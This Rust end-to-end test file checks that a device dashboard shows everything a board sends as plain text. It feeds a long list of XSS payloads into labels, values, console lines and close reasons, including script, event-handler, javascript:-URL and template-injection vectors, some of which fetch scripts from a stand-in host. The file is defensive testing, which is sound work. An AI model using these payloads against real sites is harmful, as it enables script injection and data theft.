//! What a board says is never markup, an address or a script, wherever it is shown.

use std::fs;
use std::time::Duration;

use board::{Board, Config};
use e2e::{A_WHILE, Browser, Page, Stranger, flash, start_with, still};
use serde_json::{Value, json};

/// What would do harm where text became something else. `HOST` is a server
/// that nothing should ask; whatever runs as a script sets `xss`.
const VECTORS: &[&str] = &[
    "<script>window.xss=1</script>",
    "<script src=//HOST/x.js></script>",
    "</script><script>window.xss=1</script>",
    "<ScRiPt\u{c}src=\"http://HOST/\"></sCrIpT >",
    "<img src=x onerror=window.xss=1>",
    "<img src=//HOST/x.png>",
    "<img/src=`x`onerror=window.xss=1>",
    "<img srcset=\"//HOST/x 2x\">",
    "\"><img src=x onerror=window.xss=1>",
    "' onmouseover=window.xss=1 autofocus onfocus=window.xss=1 x='",
    "\" autofocus onfocus=\"window.xss=1",
    "<svg/onload=window.xss=1>",
    "<svg><script>window.xss=1</script></svg>",
    "<svg><animate onbegin=window.xss=1 attributeName=x dur=1s>",
    "<svg><use href=//HOST/x.svg#x></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.xss=1></style></mglyph></math>",
    "<math href=javascript:window.xss=1>x</math>",
    "<iframe srcdoc='<script>parent.xss=1</script>'></iframe>",
    "<iframe src=javascript:parent.xss=1></iframe>",
    "<object data=//HOST/x></object><embed src=//HOST/x>",
    "<a href=javascript:window.xss=1>press</a>",
    "javascript:window.xss=1",
    "JaVaScRiPt:window.xss=1//",
    "java\tscript:window.xss=1",
    "data:text/html,<script>window.xss=1</script>",
    "//HOST/x",
    "http://HOST/x",
    "ws://HOST/x",
    "<form action=//HOST/x><input type=submit autofocus></form>",
    "<body onload=window.xss=1><details open ontoggle=window.xss=1>",
    "<video><source onerror=window.xss=1></video><audio src=//HOST/x autoplay>",
    "<style>@import '//HOST/x.css';*{background:url(//HOST/x)}</style>",
    "url(//HOST/x)",
    "1;background:url(//HOST/x)",
    "<link rel=stylesheet href=//HOST/x><link rel=prefetch href=//HOST/y>",
    "<meta http-equiv=refresh content='0;url=//HOST/x'>",
    "<base href=//HOST/>",
    "<template><script>window.xss=1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.xss=1>\">",
    "<textarea></textarea><img src=x onerror=window.xss=1>",
    "</output></section></main><script>window.xss=1</script>",
    "<!--><img src=x onerror=window.xss=1>-->",
    "<![CDATA[<img src=x onerror=window.xss=1>]]>",
    "&lt;img src=x onerror=window.xss=1&gt;",
    "&#60;script&#62;window.xss=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.xss=1\\u003c/script\\u003e",
    "{{constructor.constructor('window.xss=1')()}}",
    "${window.xss=1}#{window.xss=1}<%= window.xss=1 %>",
    "`-window.xss=1-`;window.xss=1//",
    "__proto__",
    "constructor.prototype.xss",
    "<button data-do=\"disconnect\">press</button>",
    "\u{202e}tpircs<\u{2066}onerror=window.xss=1>",
    "\u{feff}<script>window.xss=1</script>\u{200b}",
    "\u{0}<scr\u{0}ipt>window.xss=1</scr\u{0}ipt>",
    "\u{1}\u{8}\u{b}\u{1b}[31m\u{7f}\u{85}\u{2028}\u{2029}",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
];

/// How long the longest one is, about.
const LONG: usize = 100_000;

/// Watches a page from before its start: what runs, what is blocked, and what comes into the
/// document that the page does not make.
const WATCH: &str = "
    window.seen = [];
    const see = (what) => { if (window.seen.length < 50) window.seen.push(String(what)); };
    window.alert = window.confirm = window.prompt = window.open = () => see('dialog');
    addEventListener('error', (event) => see(`error ${event.message ?? event.target?.outerHTML}`), true);
    addEventListener('unhandledrejection', (event) => see(`rejection ${event.reason}`));
    document.addEventListener('securitypolicyviolation', (event) =>
        see(`blocked ${event.violatedDirective} ${event.blockedURI}`));
    const foreign = 'script,img,svg:not([aria-hidden],button *),math,iframe,object,embed,form:not([data-do],dialog.sheet > form),a:not([download]),'
        + 'video,audio,source,style,link,meta,base,template,textarea:not(#text),body body,[onload],[onerror],'
        + '[onfocus],[onbegin],[ontoggle],[onmouseover],[style*=url],[href^=java]';
    new MutationObserver((changes) => {
        for (const { addedNodes, target, type } of changes) {
            if (target.closest?.('head')) continue;
            const nodes = type === 'attributes' ? [target] : [...addedNodes];
            for (const node of nodes) {
                if (node.nodeType !== 1 || document.readyState === 'loading') continue;
                for (const one of [node, ...node.querySelectorAll('*')])
                    if (one.matches(foreign)) see(`foreign ${one.outerHTML.slice(0, 200)}`);
            }
        }
    }).observe(document, { childList: true, subtree: true, attributes: true });";

struct Watched {
    board: Board,
    page: Page,
    stranger: Stranger,
    vectors: Vec<String>,
    /// The page as it is served.
    served: String,
}

impl Watched {
    /// A live page with a profile that is made of the vectors.
    async fn open(folder: Option<std::path::PathBuf>) -> Self {
        let stranger = Stranger::start().await;
        let vectors: Vec<_> = VECTORS
            .iter()
            .map(|vector| vector.replace("HOST", &stranger.host()))
            .chain([format!(
                "<img src=x onerror=window.xss=1>{}",
                "<b>".repeat(LONG / 3)
            )])
            .collect();
        let mut config = still();
        config.serve = folder.or(config.serve);
        let index = config
            .serve
            .as_ref()
            .map(|folder| folder.join("index.html"));
        let served = fs::read_to_string(index.expect("a folder")).expect("the page can be read");
        let board = start_with(Config {
            files: [("/board.json".to_owned(), profile(&vectors).to_string())].into(),
            pages_always: true,
            ..config
        })
        .await;
        let page = Page::blank_in(Browser::Chromium).await;
        page.before_start(WATCH).await;
        page.go_to(&board.url()).await;
        page.wait_status("Connected").await;
        Self {
            board,
            page,
            stranger,
            vectors,
            served,
        }
    }

    /// Nothing of what was sent has become more than text.
    async fn see_nothing_but_text(&self) {
        let script = "return [window.xss ?? null, ({}).xss ?? null, window.seen, location.href,
            document.querySelectorAll('script').length];";
        let found = self.page.script(script).await;
        assert_eq!(found[0], json!(null), "a script ran");
        assert_eq!(found[1], json!(null), "a prototype was changed");
        assert_eq!(found[2], json!([]), "something else than text came about");
        assert_eq!(found[3], json!(self.board.url()), "the page was left");
        // The flash page has a script of its own in its body.
        let foreign = self.page.foreign_elements().await;
        let own = |element: &String| self.served.contains(element.as_str());
        assert!(foreign.iter().all(own), "{foreign:?}");
        assert_eq!(self.page.script_errors().await, [""; 0]);
        assert_eq!(self.stranger.visits(), 0, "another host was asked");
        let own = ["http://127.0.0.1", "blob:", "data:"];
        let resources = self.page.resources().await;
        for resource in resources.as_array().into_iter().flatten() {
            let url = resource.as_str().unwrap_or_default();
            assert!(own.iter().any(|own| url.starts_with(own)), "{url}");
            assert!(!url.contains(&self.stranger.host()), "{url}");
        }
    }
}

/// A profile with the vectors wherever it takes a text.
fn profile(vectors: &[String]) -> Value {
    // A profile has at most 65,536 bytes; it takes the long ones cut.
    let short: Vec<_> = vectors
        .iter()
        .map(|vector| vector.chars().take(300).collect::<String>())
        .collect();
    let vectors = &short;
    let pins = vectors.iter().zip(0..).map(|(vector, at)| {
        let kind = ["text", "switch", "digital", "analog"][at % 4];
        json!({
            "label": format!("{at} {vector}"), "group": vector, "unit": vector, "kind": kind,
            "on": vector, "off": "off", "path": format!("x.{at}"), "write": vector, vector.as_str(): 1,
        })
    });
    let buttons = vectors
        .iter()
        .map(|vector| json!({ "label": vector, "send": vector }));
    json!({
        "name": vectors[0], "address": "/ws", "pins": pins.collect::<Vec<_>>(),
        "buttons": buttons.collect::<Vec<_>>(), vectors[4].as_str(): 1, vectors[11].as_str(): [],
        "open": [vectors[0], vectors[2]],
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_a_board_says_is_more_than_text() {
    let seen = Watched::open(None).await;
    let (page, board) = (&seen.page, &seen.board);
    // The names, labels, units, groups and problems of the profile.
    page.until("the board's name", async || match page.board_name().await {
        name if name == seen.vectors[0] => Ok(()),
        name => Err(name),
    })
    .await;
    page.wait_alert(&["onerror=window.xss=1"]).await;
    seen.see_nothing_but_text().await;
    // Values of pins, keys and values of readings, and lines of the console.
    for (vector, at) in seen.vectors.iter().zip(0..) {
        let at: u64 = at;
        board.push_text(&json!({ "x": { at.to_string(): vector } }).to_string());
        board.push_text(&json!({ vector.as_str(): vector }).to_string());
        board.push_text(&json!({ "x": { at.to_string(): [vector, vector] } }).to_string());
        board.push_text(vector);
        // One at a time, as a flood is not shown line by line.
        let start: String = vector.chars().take(200).collect();
        page.wait_console_line("in", |line| line.starts_with(&start))
            .await;
    }
    seen.see_nothing_but_text().await;
    // Unfolded, filtered, and sent.
    page.unfold("{").await;
    for vector in [&seen.vectors[0], &seen.vectors[10]] {
        page.send_command(vector).await;
        page.filter(vector).await;
    }
    seen.see_nothing_but_text().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_reason_of_a_close_is_text() {
    let seen = Watched::open(None).await;
    let fits = seen.vectors.iter().filter(|vector| vector.len() <= 123);
    for (reason, number) in fits.step_by(4).zip(2..) {
        seen.board.close_sockets(1001, reason);
        let said = |line: &str| line.contains(reason.trim());
        seen.page.wait_console_line("note", said).await;
        let again = |board: &Board| board.connections() >= number;
        if !seen.board.wait_for(again, Duration::from_millis(250)).await {
            seen.page
                .script("dispatchEvent(new Event('online'));")
                .await;
        }
        seen.page.wait_status("Connected").await;
    }
    seen.see_nothing_but_text().await;
}

/// The page's policy blocks what the page itself would never do.
#[tokio::test(flavor = "multi_thread")]
async fn the_policy_of_the_flash_page_blocks_what_is_put_into_it() {
    let seen = Watched::open(Some(flash())).await;
    seen.see_nothing_but_text().await;
    let host = seen.stranger.host();
    let injected = "
        const put = (name, properties) => {
            const element = Object.assign(document.createElement(name), properties);
            document.body.append(element);
            return element;
        };
        const host = arguments[0];
        put('script', { textContent: 'window.xss = 1' });
        put('script', { src: `//${host}/x.js` });
        put('img', { src: `//${host}/x.png` });
        put('iframe', { src: `//${host}/x` });
        put('link', { rel: 'stylesheet', href: `//${host}/x.css` });
        put('div', {}).innerHTML = '<p onclick=\"window.xss = 1\">p</p>';
        document.querySelector('p[onclick]').click();
        put('a', { href: 'javascript:window.xss = 1' }).click();
        fetch(`//${host}/x`).catch(() => {});
        // Not at once: what the driver itself evaluates may evaluate.
        setTimeout(() => { try { eval('window.xss = 1'); } catch { } });
        setTimeout(() => { try { new Function('window.xss = 1')(); } catch { } });
        put('form', { action: `//${host}/x`, method: 'post' }).submit();";
    let page = &seen.page;
    page.script_with(injected, vec![json!(host)]).await;
    // The browser tells of each when it has time for that.
    let directives = [
        "script-src",
        "img-src",
        "form-action",
        "connect-src",
        "style-src",
    ];
    page.until("all of it to be blocked", async || {
        let blocked = page.script("return window.seen;").await.to_string();
        let missing = directives.iter().find(|one| !blocked.contains(**one));
        missing.map_or(Ok(()), |one| Err(format!("{blocked}, without {one}")))
    })
    .await;
    // What must not happen has had its time, too.
    tokio::time::sleep(A_WHILE).await;
    let found = page
        .script("return [window.xss ?? null, window.seen, location.href];")
        .await;
    assert_eq!(found[0], json!(null), "what was put in ran");
    assert_eq!(
        seen.stranger.requests(),
        0,
        "another host was asked: {found}"
    );
    assert_eq!(found[2], json!(seen.board.url()));
}
